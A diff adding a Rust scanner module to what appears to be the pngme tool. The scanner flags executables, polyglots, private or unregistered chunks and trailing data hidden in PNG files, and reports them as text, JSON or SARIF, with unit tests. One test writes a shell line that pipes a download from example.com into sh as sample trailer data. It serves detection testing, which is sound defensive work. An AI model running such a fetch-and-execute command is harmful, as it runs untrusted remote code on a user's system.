@@ -0,0 +1,533 @@
+use std::fmt;
+use std::path::PathBuf;
+use std::str::FromStr;
+
+use serde_json::{json, Value};
+
+use crate::chunk_type::ChunkType;
+use crate::envelope::{Envelope, Location};
+use crate::png::Png;
+use crate::rules::{Rule, RuleMatch};
+use crate::sniff;
+
+/// The kinds of hidden data `scan` reports
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum FindingKind {
+    /// Executable code (PE, ELF, Mach-O or a script) in chunk data or after `IEND`
+    Executables,
+    /// Data that makes the file valid in another format too (ZIP, JAR or PDF)
+    Polyglots,
+    /// Private (lowercase second letter) chunks, where pngme and similar tools hide data
+    PrivateChunks,
+    /// Public chunks whose type isn't defined by the PNG spec or a registered extension
+    UnknownChunks,
+    /// Data stored after the `IEND` chunk
+    EofData,
+    /// Data matching a user-supplied rule
+    RuleMatches,
+}
+
+impl FindingKind {
+    /// All kinds, most severe first
+    pub const ALL: [FindingKind; 6] = [
+        FindingKind::Executables,
+        FindingKind::Polyglots,
+        FindingKind::PrivateChunks,
+        FindingKind::UnknownChunks,
+        FindingKind::EofData,
+        FindingKind::RuleMatches,
+    ];
+
+    /// A one sentence description of this kind
+    pub fn description(&self) -> &'static str {
+        match self {
+            FindingKind::Executables => "Executable code, the most likely sign of malware delivery",
+            FindingKind::Polyglots => "Data that makes the file a valid ZIP, JAR or PDF file too",
+            FindingKind::PrivateChunks => "Private chunks, which are commonly used to hide data",
+            FindingKind::UnknownChunks => "Public chunks of a type the PNG spec doesn't register",
+            FindingKind::EofData => "Data stored after the IEND chunk",
+            FindingKind::RuleMatches => "Data matching a user-supplied rule",
+        }
+    }
+
+    /// The name used for this kind on the command line, e.g. in `--deny`
+    pub fn name(&self) -> &'static str {
+        match self {
+            FindingKind::Executables => "executables",
+            FindingKind::Polyglots => "polyglots",
+            FindingKind::PrivateChunks => "private-chunks",
+            FindingKind::UnknownChunks => "unknown-chunks",
+            FindingKind::EofData => "eof-data",
+            FindingKind::RuleMatches => "rule-matches",
+        }
+    }
+}
+
+impl FromStr for FindingKind {
+    type Err = String;
+
+    fn from_str(s: &str) -> std::result::Result<Self, Self::Err> {
+        FindingKind::ALL.into_iter()
+            .find(|kind| kind.name() == s)
+            .ok_or_else(|| {
+                let names: Vec<&str> = FindingKind::ALL.iter().map(|kind| kind.name()).collect();
+                format!("unknown finding kind '{}' (expected one of {})", s, names.join(", "))
+            })
+    }
+}
+
+impl fmt::Display for FindingKind {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{}", self.name())
+    }
+}
+
+/// A piece of possibly hidden data found in a `Png`
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Finding {
+    pub kind: FindingKind,
+    pub location: Location,
+    /// The type of the chunk holding the data, if it is stored in a chunk
+    pub chunk_type: Option<ChunkType>,
+    /// The offset in the file of the chunk holding the data (its length field), or of the
+    /// data after `IEND`
+    pub offset: usize,
+    /// The size of the data in bytes
+    pub size: usize,
+    /// True if the data is wrapped in a pngme payload envelope
+    pub pngme_payload: bool,
+    /// The MIME type detected from the content of the data (or of the pngme payload)
+    pub mime_type: Option<&'static str>,
+    /// The kind of executable code the data (or the pngme payload) starts with, e.g. `ELF`
+    pub executable: Option<&'static str>,
+    /// The other file format the data makes the file valid in, e.g. `ZIP`
+    pub polyglot: Option<&'static str>,
+    /// The rule that matched the data, for `RuleMatches` findings
+    pub rule: Option<RuleMatch>,
+}
+
+impl Finding {
+    fn new(png: &Png, kind: FindingKind, location: Location) -> Finding {
+        let (chunk_type, data) = match location {
+            Location::Chunk(index) => (Some(*png.chunks()[index].chunk_type()), png.chunks()[index].data()),
+            Location::Trailer => (None, png.trailer()),
+        };
+        let envelope = Envelope::from_bytes(data).ok();
+        let payload = envelope.as_ref().map_or(data, |envelope| envelope.payload());
+        // The structure of another format can't be hidden in the image data or the other
+        // critical chunks without breaking the PNG file, and searching them is slow
+        let polyglot = match chunk_type {
+            Some(chunk_type) if chunk_type.is_critical() => None,
+            _ => sniff::polyglot(data),
+        };
+
+        Finding {
+            kind,
+            location,
+            chunk_type,
+            offset: offset_of(png, location),
+            size: data.len(),
+            pngme_payload: envelope.is_some(),
+            mime_type: sniff::detect(payload).map(|kind| kind.mime_type()),
+            executable: sniff::executable(payload),
+            polyglot,
+            rule: None,
+        }
+    }
+
+    fn rule_match(png: &Png, rule: RuleMatch) -> Finding {
+        let finding = Finding::new(png, FindingKind::RuleMatches, rule.location);
+        Finding { rule: Some(rule), ..finding }
+    }
+}
+
+/// The offset in the file of the chunk at `location` (its length field), or of the data
+/// after `IEND`
+fn offset_of(png: &Png, location: Location) -> usize {
+    let end = match location {
+        Location::Chunk(index) => index,
+        Location::Trailer => png.chunks().len(),
+    };
+    png.header().len() + png.chunks()[..end].iter().map(|chunk| chunk.length() as usize + 12).sum::<usize>()
+}
+
+impl fmt::Display for Finding {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        if let Some(rule) = &self.rule {
+            return match (&self.location, &self.chunk_type) {
+                (Location::Chunk(index), Some(chunk_type)) => {
+                    write!(f, "rule {} matched chunk {} (#{}) at byte {}", rule.name, chunk_type, index, rule.offset)
+                }
+                _ => write!(f, "rule {} matched the data after IEND at byte {}", rule.name, rule.offset),
+            };
+        }
+
+        if let (FindingKind::Executables, Some(executable)) = (self.kind, self.executable) {
+            return match (&self.location, &self.chunk_type) {
+                (Location::Chunk(index), Some(chunk_type)) => {
+                    write!(f, "{} executable in chunk {} (#{}) with {} bytes", executable, chunk_type, index, self.size)
+                }
+                _ => write!(f, "{} executable in the {} bytes of data after IEND", executable, self.size),
+            };
+        }
+
+        if let (FindingKind::Polyglots, Some(polyglot)) = (self.kind, self.polyglot) {
+            return match (&self.location, &self.chunk_type) {
+                (Location::Chunk(index), Some(chunk_type)) => {
+                    write!(f, "{} file structure in chunk {} (#{}), the file is a PNG/{} polyglot", polyglot, chunk_type, index, polyglot)
+                }
+                _ => write!(f, "{} file structure after IEND, the file is a PNG/{} polyglot", polyglot, polyglot),
+            };
+        }
+
+        match (&self.location, &self.chunk_type) {
+            (Location::Chunk(index), Some(chunk_type)) => {
+                let kind = if chunk_type.is_public() { "unregistered" } else { "private" };
+                let critical = if chunk_type.is_critical() { "critical" } else { "ancillary" };
+                write!(f, "{} {} chunk {} (#{}) at offset {} with {} bytes", kind, critical, chunk_type, index, self.offset, self.size)?
+            }
+            _ => write!(f, "{} bytes of data after IEND at offset {}", self.size, self.offset)?,
+        }
+        if self.pngme_payload {
+            write!(f, ", pngme payload")?;
+        }
+        if let Some(mime_type) = self.mime_type {
+            write!(f, ", {}", mime_type)?;
+        }
+        Ok(())
+    }
+}
+
+/// The findings of a scanned file, or the reason it couldn't be scanned
+#[derive(Debug, Clone)]
+pub struct FileReport {
+    pub path: PathBuf,
+    pub findings: std::result::Result<Vec<Finding>, String>,
+}
+
+/// The output formats of `scan`
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum ReportFormat {
+    /// One line per finding
+    #[default]
+    Text,
+    /// SARIF 2.1.0 JSON, understood by code scanning dashboards
+    Sarif,
+    /// One JSON object per file, with every field of the findings
+    Json,
+}
+
+impl FromStr for ReportFormat {
+    type Err = String;
+
+    fn from_str(s: &str) -> std::result::Result<Self, Self::Err> {
+        match s {
+            "text" => Ok(ReportFormat::Text),
+            "sarif" => Ok(ReportFormat::Sarif),
+            "json" => Ok(ReportFormat::Json),
+            _ => Err(format!("unknown format '{}' (expected text, sarif or json)", s)),
+        }
+    }
+}
+
+impl fmt::Display for ReportFormat {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            ReportFormat::Text => write!(f, "text"),
+            ReportFormat::Sarif => write!(f, "sarif"),
+            ReportFormat::Json => write!(f, "json"),
+        }
+    }
+}
+
+/// Describes the reports as a JSON array with one object per file, holding either its
+/// findings or the reason it couldn't be scanned
+pub fn to_json(reports: &[FileReport], deny: &[FindingKind]) -> Value {
+    let finding_json = |finding: &Finding| json!({
+        "kind": finding.kind.name(),
+        "denied": deny.contains(&finding.kind),
+        "chunk_type": finding.chunk_type.as_ref().map(|chunk_type| chunk_type.to_string()),
+        "chunk_index": match finding.location {
+            Location::Chunk(index) => Some(index),
+            Location::Trailer => None,
+        },
+        "offset": finding.offset,
+        "size": finding.size,
+        "pngme_payload": finding.pngme_payload,
+        "mime_type": finding.mime_type,
+        "executable": finding.executable,
+        "polyglot": finding.polyglot,
+        "rule": finding.rule.as_ref().map(|rule| json!({ "name": rule.name, "offset": rule.offset })),
+        "message": finding.to_string(),
+    });
+
+    reports.iter()
+        .map(|report| match &report.findings {
+            Ok(findings) => json!({
+                "path": report.path,
+                "findings": findings.iter().map(finding_json).collect::<Vec<_>>(),
+            }),
+            Err(e) => json!({ "path": report.path, "error": e }),
+        })
+        .collect()
+}
+
+/// The SARIF rule id of files that couldn't be scanned
+const UNREADABLE_FILE_RULE: &str = "unreadable-file";
+
+/// Builds a SARIF log of the reports. Executables, denied findings and unreadable files
+/// are errors, other findings are notes.
+/// https://docs.oasis-open.org/sarif/sarif/v2.1.0/sarif-v2.1.0.html
+pub fn to_sarif(reports: &[FileReport], deny: &[FindingKind]) -> Value {
+    let mut rules: Vec<Value> = FindingKind::ALL.iter()
+        .map(|kind| json!({
+            "id": kind.name(),
+            "shortDescription": { "text": kind.description() },
+        }))
+        .collect();
+    rules.push(json!({
+        "id": UNREADABLE_FILE_RULE,
+        "shortDescription": { "text": "The file couldn't be parsed as a PNG file" },
+    }));
+
+    let result = |rule_id: &str, level: &str, message: String, path: &PathBuf| json!({
+        "ruleId": rule_id,
+        "level": level,
+        "message": { "text": message },
+        "locations": [{
+            "physicalLocation": {
+                "artifactLocation": { "uri": path.to_string_lossy().replace('\\', "/") },
+            },
+        }],
+    });
+
+    let mut results = Vec::new();
+    for report in reports {
+        match &report.findings {
+            Ok(findings) => results.extend(findings.iter().map(|finding| {
+                let error = finding.kind == FindingKind::Executables || deny.contains(&finding.kind);
+                let level = if error { "error" } else { "note" };
+                result(finding.kind.name(), level, finding.to_string(), &report.path)
+            })),
+            Err(e) => results.push(result(UNREADABLE_FILE_RULE, "error", e.clone(), &report.path)),
+        }
+    }
+
+    json!({
+        "$schema": "https://json.schemastore.org/sarif-2.1.0.json",
+        "version": "2.1.0",
+        "runs": [{
+            "tool": {
+                "driver": {
+                    "name": "pngme",
+                    "version": env!("CARGO_PKG_VERSION"),
+                    "rules": rules,
+                },
+            },
+            "results": results,
+        }],
+    })
+}
+
+/// Looks for data hidden in private chunks and after `IEND`, and for data matching `rules`
+pub fn scan_with_rules(png: &Png, rules: &[Rule]) -> Vec<Finding> {
+    let mut findings = scan(png);
+    for rule in rules {
+        findings.extend(rule.find_in(png).into_iter().map(|rule| Finding::rule_match(png, rule)));
+    }
+    findings
+}
+
+/// Looks for executable code and other file formats' structures (polyglots) in every chunk
+/// and after `IEND`, and for data hidden in private or unregistered chunks and after `IEND`.
+/// Findings are ordered by kind, most severe first.
+pub fn scan(png: &Png) -> Vec<Finding> {
+    let chunks = (0..png.chunks().len()).map(Location::Chunk);
+    let trailer = (!png.trailer().is_empty()).then_some(Location::Trailer);
+    let embedded: Vec<Finding> = chunks.chain(trailer)
+        .map(|location| Finding::new(png, FindingKind::Executables, location))
+        .collect();
+
+    let mut findings: Vec<Finding> = embedded.iter()
+        .filter(|finding| finding.executable.is_some())
+        .cloned()
+        .collect();
+    findings.extend(embedded.into_iter()
+        .filter(|finding| finding.polyglot.is_some())
+        .map(|finding| Finding { kind: FindingKind::Polyglots, ..finding }));
+
+    findings.extend(png.chunks().iter()
+        .enumerate()
+        .filter(|(_, chunk)| !chunk.chunk_type().is_public())
+        .map(|(index, _)| Finding::new(png, FindingKind::PrivateChunks, Location::Chunk(index))));
+    findings.extend(png.chunks().iter()
+        .enumerate()
+        .filter(|(_, chunk)| chunk.chunk_type().is_public() && !chunk.chunk_type().is_registered())
+        .map(|(index, _)| Finding::new(png, FindingKind::UnknownChunks, Location::Chunk(index))));
+
+    if !png.trailer().is_empty() {
+        findings.push(Finding::new(png, FindingKind::EofData, Location::Trailer));
+    }
+    findings
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::chunk::Chunk;
+    use std::convert::TryFrom;
+
+    const DICE: &[u8] = include_bytes!("../dice.png");
+
+    #[test]
+    fn test_scan_clean_file() {
+        assert!(scan(&Png::try_from(DICE).unwrap()).is_empty());
+    }
+
+    #[test]
+    fn test_scan() {
+        let mut png = Png::try_from(DICE).unwrap();
+        let payload = Envelope::new(b"secret".to_vec()).as_bytes();
+        png.insert_before_end(Chunk::new(ChunkType::from_str("ruSt").unwrap(), payload));
+        png.set_trailer(DICE.to_vec());
+
+        let findings = scan(&png);
+
+        assert_eq!(findings.len(), 2);
+        assert_eq!(findings[0].kind, FindingKind::PrivateChunks);
+        assert!(findings[0].pngme_payload);
+        assert_eq!(
+            findings[0].to_string(),
+            format!("private ancillary chunk ruSt (#{}) at offset {} with 21 bytes, pngme payload", png.chunks().len() - 2, DICE.len() - 12),
+        );
+        assert_eq!(findings[1].kind, FindingKind::EofData);
+        assert_eq!(findings[1].offset, DICE.len() + 33);
+        assert_eq!(findings[1].mime_type, Some("image/png"));
+    }
+
+    #[test]
+    fn test_scan_unknown_chunks() {
+        let mut png = Png::try_from(DICE).unwrap();
+        png.insert_before_end(Chunk::new(ChunkType::from_str("iDOT").unwrap(), vec![0; 28]));
+        png.insert_before_end(Chunk::new(ChunkType::from_str("eXIf").unwrap(), b"MM\0*".to_vec()));
+
+        let findings = scan(&png);
+
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].kind, FindingKind::UnknownChunks);
+        assert_eq!(
+            findings[0].to_string(),
+            format!("unregistered ancillary chunk iDOT (#{}) at offset {} with 28 bytes", png.chunks().len() - 3, DICE.len() - 12),
+        );
+    }
+
+    #[test]
+    fn test_scan_with_rules() {
+        let mut png = Png::try_from(DICE).unwrap();
+        png.set_trailer(b"id=beacon-0badc0de".to_vec());
+        let rules = crate::rules::parse_rules("beacon * regex:beacon-[0-9a-f]{8}").unwrap();
+
+        let findings = scan_with_rules(&png, &rules);
+
+        assert_eq!(findings.len(), 2);
+        assert_eq!(findings[1].kind, FindingKind::RuleMatches);
+        assert_eq!(findings[1].to_string(), "rule beacon matched the data after IEND at byte 3");
+    }
+
+    #[test]
+    fn test_scan_executables() {
+        let mut png = Png::try_from(DICE).unwrap();
+        let elf = Envelope::new(b"\x7fELF\x02\x01\x01".to_vec()).as_bytes();
+        png.insert_before_end(Chunk::new(ChunkType::from_str("ruSt").unwrap(), elf));
+        png.set_trailer(b"#!/bin/sh\ncurl example.com | sh\n".to_vec());
+        let index = png.chunks().len() - 2;
+
+        let findings = scan(&png);
+
+        assert_eq!(findings.len(), 4);
+        assert_eq!(findings[0].kind, FindingKind::Executables);
+        assert_eq!(findings[0].to_string(), format!("ELF executable in chunk ruSt (#{}) with 22 bytes", index));
+        assert_eq!(findings[1].to_string(), "script executable in the 32 bytes of data after IEND");
+        assert_eq!(findings[2].kind, FindingKind::PrivateChunks);
+        assert_eq!(findings[3].kind, FindingKind::EofData);
+
+        let sarif = to_sarif(&[FileReport { path: PathBuf::from("x.png"), findings: Ok(findings) }], &[]);
+        assert_eq!(sarif["runs"][0]["results"][0]["level"], "error");
+        assert_eq!(sarif["runs"][0]["results"][2]["level"], "note");
+    }
+
+    #[test]
+    fn test_scan_polyglots() {
+        let mut png = Png::try_from(DICE).unwrap();
+        png.set_trailer(b"PK\x03\x04payload.txt PK\x01\x02 PK\x05\x06\0\0\0\0".to_vec());
+
+        let findings = scan(&png);
+
+        assert_eq!(findings.len(), 2);
+        assert_eq!(findings[0].kind, FindingKind::Polyglots);
+        assert_eq!(findings[0].to_string(), "ZIP file structure after IEND, the file is a PNG/ZIP polyglot");
+        assert_eq!(findings[1].kind, FindingKind::EofData);
+    }
+
+    #[test]
+    fn test_scan_polyglots_skips_critical_chunks() {
+        let zip = b"PK\x03\x04payload.txt PK\x01\x02 PK\x05\x06\0\0\0\0".to_vec();
+        let mut png = Png::try_from(DICE).unwrap();
+        png.insert_chunk_at(1, Chunk::new(ChunkType::from_str("IDAT").unwrap(), zip.clone())).unwrap();
+        assert!(scan(&png).iter().all(|finding| finding.polyglot.is_none()));
+
+        png.insert_chunk_at(1, Chunk::new(ChunkType::from_str("zipX").unwrap(), zip)).unwrap();
+        let polyglots: Vec<_> = scan(&png).into_iter().filter(|finding| finding.kind == FindingKind::Polyglots).collect();
+        assert_eq!(polyglots.len(), 1);
+        assert_eq!(polyglots[0].location, Location::Chunk(1));
+    }
+
+    #[test]
+    fn test_sarif() {
+        let mut png = Png::try_from(DICE).unwrap();
+        png.set_trailer(b"appended".to_vec());
+        let reports = vec![
+            FileReport { path: PathBuf::from("assets/dice.png"), findings: Ok(scan(&png)) },
+            FileReport { path: PathBuf::from("assets/broken.png"), findings: Err("invalid PNG header".to_owned()) },
+        ];
+
+        let sarif = to_sarif(&reports, &[FindingKind::PrivateChunks]);
+        let results = sarif["runs"][0]["results"].as_array().unwrap();
+
+        assert_eq!(sarif["version"], "2.1.0");
+        assert_eq!(results.len(), 2);
+        assert_eq!(results[0]["ruleId"], "eof-data");
+        assert_eq!(results[0]["level"], "note");
+        assert_eq!(results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "assets/dice.png");
+        assert_eq!(results[1]["ruleId"], "unreadable-file");
+        assert_eq!(results[1]["level"], "error");
+    }
+
+    #[test]
+    fn test_json() {
+        let mut png = Png::try_from(DICE).unwrap();
+        png.set_trailer(b"appended".to_vec());
+        let reports = vec![
+            FileReport { path: PathBuf::from("dice.png"), findings: Ok(scan(&png)) },
+            FileReport { path: PathBuf::from("broken.png"), findings: Err("invalid PNG header".to_owned()) },
+        ];
+
+        let json = to_json(&reports, &[FindingKind::EofData]);
+
+        assert_eq!(json[0]["path"], "dice.png");
+        assert_eq!(json[0]["findings"][0]["kind"], "eof-data");
+        assert_eq!(json[0]["findings"][0]["denied"], true);
+        assert_eq!(json[0]["findings"][0]["offset"], DICE.len());
+        assert_eq!(json[0]["findings"][0]["size"], 8);
+        assert_eq!(json[0]["findings"][0]["chunk_type"], Value::Null);
+        assert_eq!(json[1]["error"], "invalid PNG header");
+    }
+
+    #[test]
+    fn test_finding_kind_names() {
+        for kind in FindingKind::ALL {
+            assert_eq!(FindingKind::from_str(kind.name()).unwrap(), kind);
+        }
+        assert!(FindingKind::from_str("everything").is_err());
+    }
+}